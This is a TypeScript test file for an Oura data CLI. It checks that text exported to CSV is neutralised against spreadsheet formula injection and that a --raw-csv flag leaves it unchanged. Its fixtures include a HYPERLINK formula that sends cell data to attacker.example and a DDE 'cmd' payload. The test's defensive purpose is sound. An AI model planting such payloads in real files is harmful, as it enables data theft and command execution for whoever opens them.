/**
 * Oura's free text (a tag's text, an enhanced tag's comment, a workout's
 * label) reaches CSV from `oura get`, `oura sql` and `oura export`. Text a
 * spreadsheet would run as a formula goes out neutralised (a leading `'`,
 * quoted, as OWASP's CSV Injection page says); numbers stay numbers; and
 * `--raw-csv` writes it as it is, for programs.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Emulator, startEmulator } from '../src/emulator/index.js';
import { cleanEnv, expectNoSecrets, runCli } from './helpers/cli.js';
import { parseCsv } from './helpers/csv.js';
import { tempDir } from './helpers/temp.js';

const TODAY = '2024-05-07';
const START = '2024-04-08';
const RANGE = ['--start', START, '--end', TODAY];

const COMMENT = '=HYPERLINK("http://attacker.example/?leak="&A1,"Coffee")';
const LABEL = "-2+3+cmd|' /C calc'!A0";
const TEXT = '@SUM(1+1)';

let emulator: Emulator;
let token: string;
let dataDir: string;
let ids: { enhanced_tag: string; workout: string; tag: string };

async function oura(args: string[]) {
  const result = await runCli(args, {
    env: cleanEnv({
      OURA_ACCESS_TOKEN: token,
      OURA_API_URL: emulator.url,
      OURA_DATA_DIR: dataDir,
      OURA_CONFIG_DIR: dataDir,
    }),
  });
  expectNoSecrets(result, [token]);
  expect(result.code, result.stderr).toBe(0);
  return result;
}

/** The first document of a type in the range, as `oura get` lists it. */
async function firstId(type: string): Promise<string> {
  const docs = JSON.parse((await oura(['get', type, ...RANGE, '--format', 'json'])).stdout) as {
    id: string;
  }[];
  const id = docs[0]?.id;
  if (!id) throw new Error(`the emulator has no ${type} from ${START} to ${TODAY}`);
  return id;
}

/** The cells of `column` in CSV text, as a spreadsheet's CSV reader sees them. */
function column(csv: string, name: string): string[] {
  const [header = [], ...rows] = parseCsv(csv);
  const index = header.indexOf(name);
  expect(index, `no column ${name} in ${header.join(',')}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[index] ?? '');
}

beforeAll(async () => {
  emulator = await startEmulator({ today: TODAY, historyDays: 30 });
  token = emulator.mintTokens().access_token;
  dataDir = await tempDir('oura-csv-formulas-');
  ids = {
    enhanced_tag: await firstId('enhanced_tag'),
    workout: await firstId('workout'),
    tag: await firstId('tag'),
  };
  emulator.reviseDocument('enhanced_tag', ids.enhanced_tag, { comment: COMMENT });
  // A negative number beside the formula-like label: a value, not a formula.
  emulator.reviseDocument('workout', ids.workout, { label: LABEL, calories: -3.5 });
  emulator.reviseDocument('tag', ids.tag, { text: TEXT });
  await oura(['sync', '--types', 'enhanced_tag,workout,tag', '--since', START]);
});
afterAll(async () => {
  await emulator?.close();
});

describe('CSV is safe to open in a spreadsheet by default', () => {
  it('oura get: formula-like text gets a leading quote and is quoted; numbers stay numbers', async () => {
    const enhanced = (await oura(['get', 'enhanced_tag', ...RANGE, '--format', 'csv'])).stdout;
    expect(enhanced).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Coffee"")"`);
    expect(column(enhanced, 'comment')).toContain(`'${COMMENT}`);

    const workouts = (await oura(['get', 'workout', ...RANGE, '--format', 'csv'])).stdout;
    expect(column(workouts, 'label')).toContain(`'${LABEL}`);
    const row = parseCsv(workouts).find((cells) => cells.includes(ids.workout)) ?? [];
    expect(row).toContain('-3.5');
    expect(workouts).toMatch(/(^|,)-3\.5(,|\r\n)/m);

    const local = (await oura(['get', 'tag', ...RANGE, '--format', 'csv', '--local'])).stdout;
    expect(column(local, 'text')).toContain(`'${TEXT}`);
  });

  it('oura sql: the same for a query', async () => {
    const sql = `SELECT comment, -3.5 AS n FROM enhanced_tag WHERE id = '${ids.enhanced_tag}'`;
    const csv = (await oura(['sql', sql, '--format', 'csv'])).stdout;
    expect(csv).toBe(
      `comment,n\r\n"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Coffee"")",-3.5\r\n`,
    );
  });

  it('oura export: the files are the same as get prints', async () => {
    const out = join(dataDir, 'export');
    await oura(['export', '--format', 'csv', '--out', out, '--types', 'workout', ...RANGE]);
    const file = await readFile(join(out, 'workout.csv'), 'utf8');
    expect(column(file, 'label')).toContain(`'${LABEL}`);
    expect(file).toBe((await oura(['get', 'workout', ...RANGE, '--format', 'csv'])).stdout);
  });
});

describe('--raw-csv writes the text as it is, for programs', () => {
  it('on get, sql and export', async () => {
    const get = (await oura(['get', 'enhanced_tag', ...RANGE, '--format', 'csv', '--raw-csv']))
      .stdout;
    expect(column(get, 'comment')).toContain(COMMENT);
    expect(get).not.toContain(`"'=`);

    const sql = `SELECT label FROM workout WHERE id = '${ids.workout}'`;
    const rows = (await oura(['sql', sql, '--format', 'csv', '--raw-csv'])).stdout;
    expect(parseCsv(rows)).toEqual([['label'], [LABEL]]);

    const out = join(dataDir, 'export-raw');
    await oura(['export', '--format', 'csv', '--out', out, '--types', 'tag', '--raw-csv']);
    expect(column(await readFile(join(out, 'tag.csv'), 'utf8'), 'text')).toContain(TEXT);
  });

  it('is in the help of the three commands', async () => {
    for (const command of ['get', 'sql', 'export']) {
      expect((await oura([command, '--help'])).stdout).toContain('--raw-csv');
    }
  });
});
